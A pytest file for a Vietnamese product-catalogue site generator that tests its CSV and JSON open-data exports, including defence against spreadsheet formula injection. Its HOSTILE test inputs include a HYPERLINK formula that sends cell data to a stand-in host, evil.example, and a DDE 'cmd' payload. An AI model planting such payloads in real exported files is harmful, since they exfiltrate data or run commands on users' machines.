"""products.csv: the same products and values as products.json, readable by Excel (UTF-8 BOM, Vietnamese headers)."""

from __future__ import annotations

import csv
import json

from conftest import PRODUCT, parse_html

from ocop.exports import CSV_HEADERS, csv_cell


def read_csv(path) -> list[dict[str, str]]:
    """Rows of a CSV file as {header: cell}, read the way Excel-friendly files are meant to be read."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def cell(value) -> str:
    """What a JSON value looks like in the CSV: text a spreadsheet would run as a formula (starting with
    = + - @, a tab or a carriage return: OWASP "CSV Injection") is written with a leading '."""
    if value is None or isinstance(value, bool):
        return ""
    text = str(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_csv_matches_json_field_by_field(sample_output):
    records = json.loads((sample_output / "products.json").read_text(encoding="utf-8"))
    rows = read_csv(sample_output / "products.csv")
    assert len(rows) == len(records) == 13
    for record, row in zip(records, rows):
        assert set(row) == {CSV_HEADERS[k] for k in record}
        for key, value in record.items():
            assert row[CSV_HEADERS[key]] == cell(value), (record["slug"], key)


def test_csv_has_bom_vietnamese_headers_and_excel_line_ends(sample_output):
    data = (sample_output / "products.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header = data[3:].split(b"\r\n", 1)[0].decode("utf-8")
    assert header.startswith("Mã trang,Đường dẫn,Tên sản phẩm,Hạng sao,")
    assert "Hiệu lực đến" in header and "Giá (đồng)" in header and "Đơn vị tính" in header
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")


def test_csv_cells_quote_commas_and_leave_missing_values_empty(make_site, build, tmp_path):
    product = PRODUCT.replace("title: Mật ong rừng Hữu Liên", 'title: "Mật ong rừng, loại \\"đặc biệt\\""')
    product = product.replace("price: 250000\n", "").replace("unit: chai 500 ml\n", "")
    code, _, err = build(make_site({"products/mat-ong-rung-huu-lien.md": product}))
    assert code == 0, err
    out = tmp_path / "output"
    [row] = read_csv(out / "products.csv")
    [record] = json.loads((out / "products.json").read_text(encoding="utf-8"))
    assert row["Tên sản phẩm"] == record["title"] == 'Mật ong rừng, loại "đặc biệt"'
    assert row["Giá (đồng)"] == "" and record["price"] is None
    assert row["Đơn vị tính"] == "" and record["unit"] is None
    assert row["Hạng sao"] == "4" and row["Ngày cấp"] == "2025-08-15" and row["Hiệu lực đến"] == "2028-08-15"


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Mật ong")',
    "unit": "+chai 500 ml",
    "producer_name": "@SUM(1+9)*cmd|' /C calc'!A0",
    "certificate_number": "-1234/QĐ-UBND",
}


def test_csv_neutralises_formula_cells_and_json_keeps_the_true_values(make_site, build, tmp_path):
    from conftest import PRODUCER

    product = (PRODUCT.replace("title: Mật ong rừng Hữu Liên", "title: '" + HOSTILE["title"].replace("'", "''") + "'")
               .replace("unit: chai 500 ml", 'unit: "+chai 500 ml"').replace('number: "1234/QĐ-UBND"', 'number: "-1234/QĐ-UBND"'))
    producer = PRODUCER.replace("name: Hợp tác xã Mật ong Hữu Liên", "name: \"@SUM(1+9)*cmd|' /C calc'!A0\"")
    code, _, err = build(make_site({"products/mat-ong-rung-huu-lien.md": product, "producers/htx-mat-ong-huu-lien.md": producer}))
    assert code == 0, err
    out = tmp_path / "output"
    records = {r["slug"]: r for r in json.loads((out / "products.json").read_text(encoding="utf-8"))}
    rows = {r["Mã trang"]: r for r in read_csv(out / "products.csv")}
    record, row = records["mat-ong-rung-huu-lien"], rows["mat-ong-rung-huu-lien"]
    for key, value in HOSTILE.items():
        assert record[key] == value  # the open data keeps what the editor wrote
        assert row[CSV_HEADERS[key]] == "'" + value  # the spreadsheet shows it as text, never runs it
    assert row["Hạng sao"] == "4" and row["Giá (đồng)"] == "250000" and row["Ngày cấp"] == "2025-08-15"
    assert all(row[CSV_HEADERS[k]] == cell(v) for k, v in record.items())  # the comparison test's rule
    # Text fields are trimmed when read, so a leading tab or carriage return cannot come from content;
    # the rule covers them anyway, for any column added later.
    assert csv_cell("\tx") == "'\tx" and csv_cell("\r=1") == "'\r=1" and csv_cell(250000) == "250000"


def test_stats_page_links_the_open_data_and_print_pages(sample_output):
    stats = parse_html(sample_output / "thong-ke" / "index.html")
    hrefs = {a.attrs.get("href") for a in stats.find("main").find_all("a")}
    assert {"/ocop-huu-lung/products.csv", "/ocop-huu-lung/products.json"} <= hrefs
    assert "/ocop-huu-lung/in-nhan/" in hrefs



def test_big_open_data_is_split_into_parts_with_every_product_once(tmp_path, monkeypatch):
    """Past the part size, products.json and products.csv list their parts; every product is in one part."""
    import shutil

    import ocop.parts
    from conftest import ROOT, TODAY
    from ocop.cli import main

    content = tmp_path / "content"
    shutil.copytree(ROOT / "content", content)
    tea = content / "products/tra-day-tuan-son/index.md"
    tea.write_text(tea.read_text(encoding="utf-8").replace(
        "title: Trà dây Tuấn Sơn\n", "title: '" + HOSTILE["title"].replace("'", "''") + "'\n", 1), encoding="utf-8")
    monkeypatch.setattr(ocop.parts, "PART_BYTES", 2500)
    out = tmp_path / "output"
    assert main(["build", "--content", str(content), "--output", str(out), "--today", TODAY]) == 0
    slugs = sorted(p.parent.name for p in (out / "san-pham").glob("*/index.html") if p.parent.name != "trang")

    index = json.loads((out / "products.json").read_text(encoding="utf-8"))
    assert index["products"] == len(slugs) == 13 and len(index["parts"]) >= 3
    records = []
    for part in index["parts"]:
        path = out / part["file"]
        assert part["url"].endswith("/ocop-huu-lung/" + part["file"]) and path.stat().st_size <= 2500
        found = json.loads(path.read_text(encoding="utf-8"))
        assert [found[0]["slug"], found[-1]["slug"], len(found)] == [part["first"], part["last"], part["products"]]
        records += found
    assert sorted(r["slug"] for r in records) == slugs and len(records) == len(set(r["slug"] for r in records))

    listed = read_csv(out / "products.csv")
    assert [row["Tệp"] for row in listed] == [f"products-{n}.csv" for n in range(1, len(listed) + 1)] and len(listed) >= 2
    rows = []
    for entry in listed:
        path = out / entry["Tệp"]
        assert path.read_bytes().startswith(b"\xef\xbb\xbf") and path.stat().st_size <= 2500
        part = read_csv(path)
        assert len(part) == int(entry["Số sản phẩm"]) and part[0]["Mã trang"] == entry["Sản phẩm đầu"]
        rows += part
    assert len(rows) == len(records)
    for record, row in zip(records, rows):  # the same order and values as the JSON parts
        assert all(row[CSV_HEADERS[k]] == cell(v) for k, v in record.items()), record["slug"]
    hostile = next(row for row in rows if row["Mã trang"] == "tra-day-tuan-son")
    assert hostile["Tên sản phẩm"] == "'" + HOSTILE["title"]  # still neutralised in a part
